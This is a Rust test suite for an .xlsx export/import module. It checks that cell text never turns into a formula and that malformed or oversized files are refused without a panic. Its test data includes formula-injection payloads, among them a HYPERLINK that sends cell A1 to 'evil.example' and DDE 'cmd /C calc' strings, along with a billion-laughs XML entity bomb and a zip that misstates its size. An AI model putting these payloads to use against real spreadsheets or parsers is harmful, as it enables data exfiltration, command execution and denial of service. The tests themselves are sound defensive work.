//! Export and import checked through the files themselves: what rust_xlsxwriter wrote is read back
//! with calamine directly (formulas, exact strings) and through `read_sheet` (typed values).

use std::io::{Cursor, Read, Write};
use std::time::Instant;

use calamine::{Data, Reader, Xlsx};
use chrono::{NaiveDate, TimeZone, Utc};
use chrono_tz::Tz;

use super::write::{MAX_CELL_TEXT, clean_text, looks_like_formula};
use super::*;

const BERLIN: Tz = chrono_tz::Europe::Berlin;

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn export(headers: &[&str], rows: Vec<Vec<Cell>>) -> Vec<u8> {
    write_sheet("Sheet", headers, BERLIN, rows).unwrap()
}

fn read(bytes: &[u8]) -> Result<Table, ExcelError> {
    read_sheet(bytes, &Limits::default())
}

/// The text of one part of the package.
fn part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut out = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut out).unwrap();
    out
}

/// A hand-made .xlsx: `sheets` are (name, state, `<sheetData>` content), plus optional shared
/// strings, for inputs no writer would produce.
fn package(sheets: &[(&str, &str, &str)], shared_strings: Option<&str>) -> Vec<u8> {
    const NS: &str = "http://schemas.openxmlformats.org";
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let mut add = |name: &str, body: &str| {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(body.as_bytes()).unwrap();
    };
    add(
        "_rels/.rels",
        &format!(
            r#"<Relationships xmlns="{NS}/package/2006/relationships"><Relationship Id="rId1" Type="{NS}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
        ),
    );
    let mut list = String::new();
    let mut rels = String::new();
    for (i, (name, state, data)) in sheets.iter().enumerate() {
        let n = i + 1;
        list.push_str(&format!(r#"<sheet name="{name}" sheetId="{n}" state="{state}" r:id="rId{n}"/>"#));
        rels.push_str(&format!(
            r#"<Relationship Id="rId{n}" Type="{NS}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{n}.xml"/>"#
        ));
        add(
            &format!("xl/worksheets/sheet{n}.xml"),
            &format!(r#"<worksheet xmlns="{NS}/spreadsheetml/2006/main"><sheetData>{data}</sheetData></worksheet>"#),
        );
    }
    add(
        "xl/workbook.xml",
        &format!(
            r#"<workbook xmlns="{NS}/spreadsheetml/2006/main" xmlns:r="{NS}/officeDocument/2006/relationships"><sheets>{list}</sheets></workbook>"#
        ),
    );
    if let Some(sst) = shared_strings {
        rels.push_str(&format!(
            r#"<Relationship Id="rIdS" Type="{NS}/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>"#
        ));
        add("xl/sharedStrings.xml", sst);
    }
    add(
        "xl/_rels/workbook.xml.rels",
        &format!(r#"<Relationships xmlns="{NS}/package/2006/relationships">{rels}</Relationships>"#),
    );
    zip.finish().unwrap().into_inner()
}

fn one_sheet(data: &str) -> Vec<u8> {
    package(&[("Sheet1", "visible", data)], None)
}

/// What a spreadsheet user could type to get a formula, a link, or a command (security.md T5).
const HOSTILE: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    "=",
    "==1",
    "＝1+1",
    " =1+1",
    "'=1+1",
    "=A1",
    "{=SUM(A1:A2)}",
    "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
];

#[test]
fn no_cell_is_a_formula_whatever_the_text() {
    let headers: Vec<&str> = HOSTILE.to_vec();
    let rows: Vec<Vec<Cell>> = (0..3).map(|_| HOSTILE.iter().map(|s| Cell::from(*s)).collect()).collect();
    let bytes = export(&headers, rows);

    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
    let formulas = book.worksheet_formula("Sheet").unwrap();
    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "a formula was written: {formulas:?}");
    let range = book.worksheet_range("Sheet").unwrap();
    assert_eq!(range.get_size(), (4, HOSTILE.len()));
    for (row, col, value) in range.cells() {
        assert_eq!(value, &Data::String(HOSTILE[col].to_string()), "cell {}", cell_name(row as u32, col as u32));
    }

    let xml = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!xml.contains("<f>") && !xml.contains("<f "), "no formula element");
    assert!(part(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""), "formula-like text is quote-prefixed");
    assert!(looks_like_formula("=1") && looks_like_formula("\t=1") && !looks_like_formula(" =1"));
}

#[test]
fn every_cell_type_round_trips() {
    let noon = Utc.with_ymd_and_hms(2026, 7, 1, 10, 30, 15).unwrap();
    let local_midnight = Utc.with_ymd_and_hms(2026, 11, 30, 23, 0, 0).unwrap(); // 00:00 in Berlin
    let cells = vec![
        (Cell::Text("Acme GmbH".into()), Value::Text("Acme GmbH".into())),
        (Cell::Int(42), Value::Int(42)),
        (Cell::Int(-7), Value::Int(-7)),
        (Cell::Int(9_007_199_254_740_993), Value::Text("9007199254740993".into())),
        (Cell::Number(2.5), Value::Float(2.5)),
        (Cell::Number(f64::NAN), Value::Empty),
        (Cell::Number(f64::INFINITY), Value::Empty),
        (Cell::Money(123_456), Value::Float(1234.56)),
        (Cell::Money(-5), Value::Float(-0.05)),
        (Cell::Money(1500), Value::Int(15)),
        (Cell::Bool(true), Value::Bool(true)),
        (Cell::Bool(false), Value::Bool(false)),
        (Cell::Date(date(2026, 12, 1)), Value::Date(date(2026, 12, 1))),
        (Cell::Date(date(1900, 1, 1)), Value::Date(date(1900, 1, 1))),
        (Cell::Date(date(1900, 2, 28)), Value::Date(date(1900, 2, 28))),
        (Cell::Date(date(1900, 3, 1)), Value::Date(date(1900, 3, 1))),
        (Cell::Date(date(9999, 12, 31)), Value::Date(date(9999, 12, 31))),
        (Cell::Date(date(1899, 6, 1)), Value::Text("1899-06-01".into())),
        (Cell::DateTime(noon), Value::DateTime(date(2026, 7, 1).and_hms_opt(12, 30, 15).unwrap())),
        (Cell::DateTime(local_midnight), Value::Date(date(2026, 12, 1))),
        (Cell::from(None::<String>), Value::Empty),
        (Cell::Empty, Value::Empty),
    ];
    let headers: Vec<String> = (0..cells.len()).map(|i| format!("Col {i}")).collect();
    let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
    let (row, want): (Vec<Cell>, Vec<Value>) = cells.into_iter().unzip();
    let bytes = export(&headers, vec![row]);

    let table = read(&bytes).unwrap();
    assert_eq!(table.sheet, "Sheet");
    assert_eq!(table.headers[3], "col 3");
    assert_eq!(table.rows.len(), 1);
    assert_eq!(table.rows[0].number, 2);
    for (i, want) in want.iter().enumerate() {
        assert_eq!(table.rows[0].get(i), want, "column {}", headers[i]);
    }
    assert_eq!(table.column(" COL 3 "), Some(3));

    // Dates carry a date format; the header is frozen and widths are bounded.
    let xml = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(xml.contains(r#"ySplit="1""#) && xml.contains(r#"state="frozen""#), "{xml}");
    let widths: Vec<f64> =
        xml.split("width=\"").skip(1).map(|s| s.split('"').next().unwrap().parse().unwrap()).collect();
    assert!(!widths.is_empty(), "{xml}");
    assert!(widths.iter().all(|w| (8.0..=51.0).contains(w)), "{widths:?}");
    let styles = part(&bytes, "xl/styles.xml");
    assert!(styles.contains("yyyy-mm-dd") && styles.contains("yyyy-mm-dd hh:mm") && styles.contains("#,##0.00"));
    assert!(styles.contains("<b/>"), "bold header");
}

#[test]
fn hostile_text_is_kept_or_made_safe() {
    let controls = "a\u{0}b\u{1}c\u{8}d\u{B}e\u{C}f\u{1B}g\u{1F}h\u{FFFE}i\u{FFFF}j";
    let long = "x".repeat(40_000);
    let long_emoji = "😀".repeat(20_000); // two UTF-16 units each
    let kept = [
        "tab\there, new\nline, and a\r\nCRLF",
        "\u{202E}gnp.exe and \u{2066}isolated\u{2069}, \u{202B}RTL\u{202C} marks \u{200F}",
        "_x0041_ stays literal, as do &amp; <b> ]]> \"quotes\"",
        "  padded  ",
        "שלום עולם مرحبا 你好",
    ];
    let mut texts: Vec<String> = vec![controls.to_string(), long.clone(), long_emoji.clone()];
    texts.extend(kept.iter().map(|s| s.to_string()));
    let bytes = export(&["text"], texts.iter().map(|t| vec![Cell::Text(t.clone())]).collect());

    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
    let range = book.worksheet_range("Sheet").unwrap();
    let got: Vec<String> = (1..=texts.len())
        .map(|r| match &range[(r, 0)] {
            Data::String(s) => s.clone(),
            other => panic!("row {r}: {other:?}"),
        })
        .collect();
    assert_eq!(got[0], "a\u{FFFD}b\u{FFFD}c\u{FFFD}d\u{FFFD}e\u{FFFD}f\u{FFFD}g\u{FFFD}h\u{FFFD}i\u{FFFD}j");
    for cut in [&got[1], &got[2]] {
        assert!(cut.ends_with('…'), "a cut text says so");
        assert_eq!(cut.encode_utf16().count(), MAX_CELL_TEXT);
    }
    assert!(long.starts_with(got[1].trim_end_matches('…')));
    for (i, want) in kept.iter().enumerate() {
        assert_eq!(&got[3 + i], want, "kept exactly");
    }

    // Through read_sheet, text comes back as forms store it: LF line breaks, no NUL.
    let table = read(&bytes).unwrap();
    assert_eq!(table.rows[3].cells[0], Value::Text("tab\there, new\nline, and a\nCRLF".into()));
    assert_eq!(table.rows[4].cells[0], Value::Text(kept[1].into()));
    assert_eq!(clean_text("plain"), "plain");
}

#[test]
fn the_sheet_name_is_made_acceptable() {
    for (raw, want) in [
        ("Companies", "Companies"),
        ("a/b:c*d?e[f]g\\h", "a_b_c_d_e_f_g_h"),
        ("'quoted'", "quoted"),
        ("", "Sheet1"),
        ("History", "Sheet1"),
        ("A very long sheet name that Excel would refuse", "A very long sheet name that Exc"),
    ] {
        let bytes = write_sheet(raw, &["a"], BERLIN, vec![vec![Cell::Int(1)]]).unwrap();
        assert_eq!(read(&bytes).unwrap().sheet, want, "{raw:?}");
    }
}

#[test]
fn refused_before_parsing_cheaply() {
    let mut huge = vec![0u8; 50 << 20];
    huge[..4].copy_from_slice(b"PK\x03\x04");
    let started = Instant::now();
    assert!(matches!(read(&huge), Err(ExcelError::TooLarge { max_bytes }) if max_bytes == 10 << 20));
    println!("50 MB refused in {:?}", started.elapsed());
    assert_eq!(
        ExcelError::TooLarge { max_bytes: 10 << 20 }.to_string(),
        "The file is larger than the 10 MB allowed for an import."
    );

    for not_excel in [&b""[..], b"name,email\nAcme,a@example.com\n", b"%PDF-1.7\n", b"PK\x05\x06\0\0\0\0"] {
        assert!(matches!(read(not_excel), Err(ExcelError::NotExcel)), "{not_excel:?}");
    }
    let mut xls = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    xls.resize(4096, 0);
    let e = read(&xls).unwrap_err();
    assert!(matches!(e, ExcelError::LegacyOrProtected));
    assert!(e.to_string().contains(".xls") && e.to_string().contains(".xlsx"));

    let zip_of = |names: &[&str]| {
        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for name in names {
            zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
            zip.write_all(b"<x/>").unwrap();
        }
        zip.finish().unwrap().into_inner()
    };
    let ods = read(&zip_of(&["mimetype", "content.xml"])).unwrap_err();
    assert_eq!(ods.to_string(), ExcelError::OtherFormat("an OpenDocument spreadsheet (.ods)").to_string());
    assert!(matches!(read(&zip_of(&["xl/workbook.bin"])), Err(ExcelError::OtherFormat(_))));
    assert!(matches!(read(&zip_of(&["hello.txt"])), Err(ExcelError::Damaged(_))));

    // A normal file whose parts unpack to more than allowed.
    let bytes = export(&["n"], (0..500).map(|i| vec![Cell::Int(i)]).collect());
    let small = Limits { max_unpacked_bytes: 4096, ..Limits::default() };
    assert!(matches!(read_sheet(&bytes, &small), Err(ExcelError::TooLargeUnpacked { max_bytes: 4096 })));
}

/// A zip bomb that understates its parts' sizes is cut off at the declared size by the zip reader.
#[test]
fn a_part_larger_than_it_claims_is_refused() {
    let rows: String = (2..=5_001).map(|r| format!(r#"<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>"#)).collect();
    let bytes = one_sheet(&format!(r#"<row r="1"><c r="A1" t="inlineStr"><is><t>n</t></is></c></row>{rows}"#));
    assert_eq!(read(&bytes).unwrap().rows.len(), 5_000, "the honest file reads");

    // Claim the sheet unpacks to 100 bytes: patch its central directory entry.
    let name = b"xl/worksheets/sheet1.xml";
    let mut lying = bytes.clone();
    let last = lying.len() - 46 - name.len();
    let at = (0..last).rev().find(|&i| lying[i..].starts_with(b"PK\x01\x02") && lying[i + 46..].starts_with(name));
    let at = at.expect("central directory entry");
    lying[at + 24..at + 28].copy_from_slice(&100u32.to_le_bytes());
    let started = Instant::now();
    let e = read(&lying).unwrap_err();
    assert!(matches!(e, ExcelError::Damaged(_)), "{e:?}");
    println!("lying part refused in {:?}: {e:?}", started.elapsed());
}

#[test]
fn import_errors_name_what_to_fix() {
    let empty = export(&[], vec![]);
    assert!(matches!(read(&empty), Err(ExcelError::NoHeader)));
    let blank_header = one_sheet(r#"<row r="1"><c r="A1" t="inlineStr"><is><t>   </t></is></c></row>"#);
    assert!(matches!(read(&blank_header), Err(ExcelError::NoHeader)));

    let dup = export(&["Email", "Name", " EMAIL "], vec![]);
    let e = read(&dup).unwrap_err();
    assert_eq!(e.to_string(), "Two columns are named “email” (A and C). Please rename or remove one.");

    let rows = |n: i64| export(&["n"], (0..n).map(|i| vec![Cell::Int(i)]).collect());
    let ten = Limits { max_rows: 10, ..Limits::default() };
    assert_eq!(read_sheet(&rows(10), &ten).unwrap().rows.len(), 10);
    let e = read_sheet(&rows(11), &ten).unwrap_err();
    assert!(matches!(e, ExcelError::TooManyRows { max: 10 }));
    assert_eq!(e.to_string(), "The sheet has more than 10 rows of data. Please split it into smaller files.");

    let wide: Vec<String> = (0..5).map(|i| format!("c{i}")).collect();
    let wide = export(&wide.iter().map(String::as_str).collect::<Vec<_>>(), vec![]);
    let four = Limits { max_columns: 4, ..Limits::default() };
    assert!(matches!(read_sheet(&wide, &four), Err(ExcelError::TooManyColumns { max: 4 })));
    let widest: String =
        (0..16_384).map(|c| format!(r#"<c r="{}1" t="inlineStr"><is><t>h{c}</t></is></c>"#, column_name(c))).collect();
    let widest = one_sheet(&format!(r#"<row r="1">{widest}</row>"#));
    assert!(matches!(read(&widest), Err(ExcelError::TooManyColumns { max: 100 })));
}

/// Formulas in an imported file give their cached values, never evaluated. An error value in a
/// named column names its cell; in a column without a header it does not matter.
#[test]
fn formulas_give_cached_values_and_errors_name_their_cell() {
    use rust_xlsxwriter::Formula;
    let book = |d7_error: bool| {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, "name").unwrap();
        sheet.write_string(0, 3, "amount").unwrap();
        sheet.write_string(6, 0, "Acme").unwrap();
        if d7_error {
            sheet.write_formula(6, 3, Formula::new("=1/0").set_result("#DIV/0!")).unwrap();
        }
        sheet.write_formula(6, 5, Formula::new("=NA()").set_result("#N/A")).unwrap();
        sheet.write_formula(7, 3, Formula::new("=1+1").set_result("7")).unwrap();
        book.save_to_buffer().unwrap()
    };
    let e = read(&book(true)).unwrap_err();
    assert_eq!(e.to_string(), "Cell D7 holds the error #DIV/0!. Please correct or clear it and import the file again.");

    let table = read(&book(false)).unwrap();
    assert_eq!(table.headers, ["name", "amount"]);
    let got: Vec<(u32, Vec<Value>)> = table.rows.into_iter().map(|r| (r.number, r.cells)).collect();
    assert_eq!(got, [(7, vec![Value::Text("Acme".into()), Value::Empty]), (8, vec![Value::Empty, Value::Int(7)])]);
}

#[test]
fn sheets_rows_and_headers_are_found_as_a_person_sees_them() {
    let data = r#"<row r="3"><c r="B3" t="inlineStr"><is><t> First Name </t></is></c><c r="D3" t="inlineStr"><is><t>E-Mail</t></is></c></row>
        <row r="5"><c r="B5" t="inlineStr"><is><t>Ann</t></is></c><c r="C5"><v>99</v></c></row>
        <row r="6"><c r="C6"><v>1</v></c></row>
        <row r="9"><c r="D9" t="inlineStr"><is><t>bo@example.com</t></is></c><c r="B9" t="inlineStr"><is><t> </t></is></c></row>"#;
    let hidden_first =
        package(&[("Old", "hidden", r#"<row r="1"><c r="A1"><v>1</v></c></row>"#), ("Data", "visible", data)], None);
    let table = read(&hidden_first).unwrap();
    assert_eq!(table.sheet, "Data");
    assert_eq!(table.headers, ["first name", "e-mail"]);
    let got: Vec<(u32, Vec<Value>)> = table.rows.into_iter().map(|r| (r.number, r.cells)).collect();
    assert_eq!(
        got,
        [
            (5, vec![Value::Text("Ann".into()), Value::Empty]),
            (9, vec![Value::Empty, Value::Text("bo@example.com".into())]),
        ],
        "row 6 has nothing in a named column; blank text is empty"
    );

    assert_eq!(read_named_sheet(&hidden_first, "old", &Limits::default()).unwrap().sheet, "Old");
    let e = read_named_sheet(&hidden_first, "Contacts", &Limits::default()).unwrap_err();
    assert_eq!(e.to_string(), "The workbook has no sheet named “Contacts”.");
    assert!(matches!(read(&package(&[], None)), Err(ExcelError::NoWorksheet)));

    // Shared strings, ISO dates (t="d"), booleans and Excel's own numbers.
    let sst = r#"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>name</t></si><si><t>when</t></si><si><r><t xml:space="preserve">Rich </t></r><r><t>text</t></r></si></sst>"#;
    let data = r#"<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="inlineStr"><is><t>ok</t></is></c></row>
        <row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="d"><v>2026-12-01T09:30:00</v></c><c r="C2" t="b"><v>1</v></c></row>
        <row r="3"><c r="A3"><v>4915112345678</v></c><c r="B3" t="d"><v>2026-12-02</v></c><c r="C3"><v>0.1</v></c></row>"#;
    let table = read(&package(&[("S", "visible", data)], Some(sst))).unwrap();
    assert_eq!(table.headers, ["name", "when", "ok"]);
    assert_eq!(
        table.rows[0].cells,
        [
            Value::Text("Rich text".into()),
            Value::DateTime(date(2026, 12, 1).and_hms_opt(9, 30, 0).unwrap()),
            Value::Bool(true)
        ]
    );
    assert_eq!(table.rows[1].cells, [Value::Int(4_915_112_345_678), Value::Date(date(2026, 12, 2)), Value::Float(0.1)]);
    assert_eq!(table.rows[1].cells[0].to_text(), "4915112345678");
}

/// Hand-made sheets no writer would produce: each reads or fails with an error, never a panic.
const HOSTILE_SHEETS: &[&str] = &[
    r#"<row r="1"><c r="A99999999999"><v>1</v></c></row>"#,
    r#"<row r="1"><c r="ZZZZZZZZZZ1"><v>1</v></c></row>"#,
    r#"<row r="99999999999"><c><v>1</v></c></row>"#,
    r#"<row r="4294967295"><c><v>1</v></c></row><row><c><v>2</v></c></row>"#,
    r#"<row r="1"><c r="XFD1048576"><v>1</v></c><c r="XFE1048577"><v>2</v></c></row>"#,
    r#"<row r="0"><c r="A0"><v>1</v></c></row>"#,
    r#"<row r="1"><c r="1A"><v>1</v></c></row>"#,
    r#"<row r="1"><c r="A1" t="s"><v>99</v></c></row>"#,
    r#"<row r="1"><c r="A1" t="s"><v>-1</v></c></row>"#,
    r#"<row r="1"><c r="A1" t="n"><v>abc</v></c></row>"#,
    r#"<row r="1"><c r="A1" t="b"><v>2</v></c></row>"#,
    r#"<row r="1"><c r="A1" t="e"><v>#FOO!</v></c></row>"#,
    r#"<row r="1"><c r="A1" t="d"><v>not a date</v></c></row>"#,
    r#"<row r="1"><c r="A1" s="999"><v>1e308</v></c></row>"#,
    r#"<row r="1"><c r="A1"><v>NaN</v></c><c r="B1"><v>-inf</v></c></row>"#,
    r#"<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>"#,
    r#"<row r="1"><c r="A1" t="inlineStr"><is><t>&#0;&#xD800;&#x110000;</t></is></c></row>"#,
    r#"<row r="1"><c r="A1" t="inlineStr"><is><t>_xD800_ _xDC00_ _x0000_</t></is></c></row>"#,
    r#"<row r="1"><c r="A1" t="inlineStr"><is><t>unclosed"#,
    r#"<row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet><worksheet><sheetData>"#,
];

#[test]
fn no_input_makes_the_reader_panic() {
    let started = Instant::now();
    let mut outcomes = std::collections::BTreeMap::<String, usize>::new();
    let mut check = |bytes: &[u8]| {
        let Ok(result) = std::panic::catch_unwind(|| read(bytes)) else {
            let kept = std::env::temp_dir().join(format!("excel-panic-{}.xlsx", std::process::id()));
            std::fs::write(&kept, bytes).unwrap();
            panic!("read_sheet panicked; the input is kept in {}", kept.display());
        };
        let outcome = match result {
            Ok(_) => "read".to_string(),
            Err(ExcelError::Damaged(d)) if d.contains("internal error") => "caught panic".to_string(),
            Err(e) => format!("{e:?}").split(['(', ' ', '{']).next().unwrap_or("").to_string(),
        };
        *outcomes.entry(outcome).or_default() += 1;
    };

    let billion_laughs = r#"<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>"#;
    let mut seeds = vec![
        export(&["name", "when"], (0..20).map(|i| vec![Cell::Int(i), Cell::Date(date(2026, 1, 1))]).collect()),
        package(&[("S", "visible", r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#)], Some(billion_laughs)),
    ];
    seeds.extend(HOSTILE_SHEETS.iter().map(|s| one_sheet(s)));
    for seed in &seeds {
        check(seed);
    }
    let mut rng = 0x2545_F491_4F6C_DD1Du64;
    let mut next = move || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    for seed in seeds.iter().take(2) {
        for len in (0..seed.len()).step_by(37) {
            check(&seed[..len]);
        }
        for _ in 0..400 {
            let mut garbled = seed.clone();
            for _ in 0..1 + next() % 4 {
                let i = (next() as usize) % garbled.len();
                garbled[i] = next() as u8;
            }
            check(&garbled);
        }
    }
    for _ in 0..200 {
        let len = (next() % 2000) as usize;
        let mut noise: Vec<u8> = (0..len).map(|_| next() as u8).collect();
        if next() % 2 == 0 && noise.len() >= 4 {
            noise[..4].copy_from_slice(b"PK\x03\x04");
        }
        check(&noise);
    }
    let total: usize = outcomes.values().sum();
    println!("{total} hostile inputs in {:?}: {outcomes:?}", started.elapsed());
    assert!(outcomes.get("read").copied().unwrap_or(0) > 0);
}

#[test]
fn ten_thousand_rows_write_and_read_back() {
    let rows = 10_000;
    let created = Utc.with_ymd_and_hms(2026, 1, 1, 8, 0, 0).unwrap();
    let make = |i: i64| {
        vec![
            Cell::Int(i),
            Cell::Text(format!("Company {i} GmbH")),
            Cell::Text(format!("contact{i}@example.com")),
            Cell::Text(format!("+49 30 {i:07}")),
            Cell::Text("Berlin".into()),
            Cell::Text("A longer description that repeats on every row of the sheet".into()),
            Cell::Money(i * 1999),
            Cell::Bool(i % 2 == 0),
            Cell::Date(date(2026, 1, 1) + chrono::Days::new((i % 365) as u64)),
            Cell::DateTime(created + chrono::Duration::minutes(i)),
        ]
    };
    let headers = [
        "id",
        "full_name",
        "email",
        "phone",
        "city_name",
        "description",
        "amount",
        "massmail",
        "was_in_touch",
        "created",
    ];
    let started = Instant::now();
    let bytes = write_sheet("Companies", &headers, BERLIN, (0..rows).map(make)).unwrap();
    let wrote = started.elapsed();
    let started = Instant::now();
    let table = read_sheet(&bytes, &Limits { max_rows: rows as usize, ..Limits::default() }).unwrap();
    let read_in = started.elapsed();
    println!(
        "{rows} rows × {} columns: wrote {} KB in {wrote:?}, read in {read_in:?}",
        headers.len(),
        bytes.len() / 1024
    );
    assert_eq!(table.rows.len(), rows as usize);
    let last = &table.rows[rows as usize - 1];
    assert_eq!(last.number, rows as u32 + 1);
    assert_eq!(last.cells[0], Value::Int(rows - 1));
    assert_eq!(last.cells[1], Value::Text(format!("Company {} GmbH", rows - 1)));
    assert_eq!(last.cells[6], Value::Float(((rows - 1) * 1999) as f64 / 100.0));
}

#[test]
fn rows_are_spooled_where_asked() {
    let dir = tempfile::tempdir().unwrap();
    let export = Export { sheet_name: "S", headers: &["a"], zone: BERLIN, tmp_dir: Some(dir.path()) };
    let bytes = export.write([vec![Cell::from("x")], vec![Cell::from(Some(2_i64))]]).unwrap();
    assert_eq!(read(&bytes).unwrap().rows[1].cells, [Value::Int(2)]);
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0, "the spool file has no name");

    let gone = dir.path().join("missing");
    let missing = Export { tmp_dir: Some(&gone), ..export };
    assert!(matches!(missing.write([vec![Cell::Int(1)]]), Err(ExcelError::Write(_))));
}

#[test]
fn column_and_cell_names_follow_excel() {
    assert_eq!(column_name(0), "A");
    assert_eq!(column_name(25), "Z");
    assert_eq!(column_name(26), "AA");
    assert_eq!(column_name(16_383), "XFD");
    assert_eq!(cell_name(6, 3), "D7");
    assert!(!column_name(u32::MAX).is_empty());
}

#[test]
fn errors_become_app_errors() {
    let e: crate::error::AppError = ExcelError::NoHeader.into();
    assert_eq!(e.status(), poem::http::StatusCode::BAD_REQUEST);
    let e: crate::error::AppError = ExcelError::Damaged("zip: bad".into()).into();
    assert_eq!(e.status(), poem::http::StatusCode::BAD_REQUEST);
    assert!(!e.to_string().contains("zip: bad"), "the detail is for the log only");
    let e: crate::error::AppError = ExcelError::Write("disk full".into()).into();
    assert_eq!(e.status(), poem::http::StatusCode::INTERNAL_SERVER_ERROR);
}

#[test]
fn a_book_has_one_sheet_per_table_with_distinct_names_and_no_formula() {
    let sheet = |name: &str, first: &str| super::Sheet {
        name: name.to_string(),
        headers: vec!["Name".into(), "Amount".into()],
        rows: vec![vec![Cell::from(first), Cell::Money(12_345)], vec![Cell::from("=1+1"), Cell::Int(7)]],
    };
    let long = "A table whose title is far longer than Excel allows";
    let bytes = super::write_book(vec![sheet(long, "a"), sheet(long, "b"), sheet("Totals", "c")], Tz::UTC).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let names = book.sheet_names();
    assert_eq!(names.len(), 3, "{names:?}");
    assert_eq!(names[0], "A table whose title is far long");
    assert_eq!(names[1], "A table whose title is far (2)");
    assert_eq!(names[2], "Totals");
    for (n, first) in [(0, "a"), (1, "b"), (2, "c")] {
        let range = book.worksheet_range(&names[n]).unwrap();
        assert_eq!(range.get_value((1, 0)), Some(&Data::String(first.into())));
        assert_eq!(range.get_value((1, 1)), Some(&Data::Float(123.45)));
        assert_eq!(range.get_value((2, 0)), Some(&Data::String("=1+1".into())));
        let formulas = book.worksheet_formula(&names[n]).unwrap();
        assert!(formulas.cells().all(|(_, _, f)| f.is_empty()));
    }
}
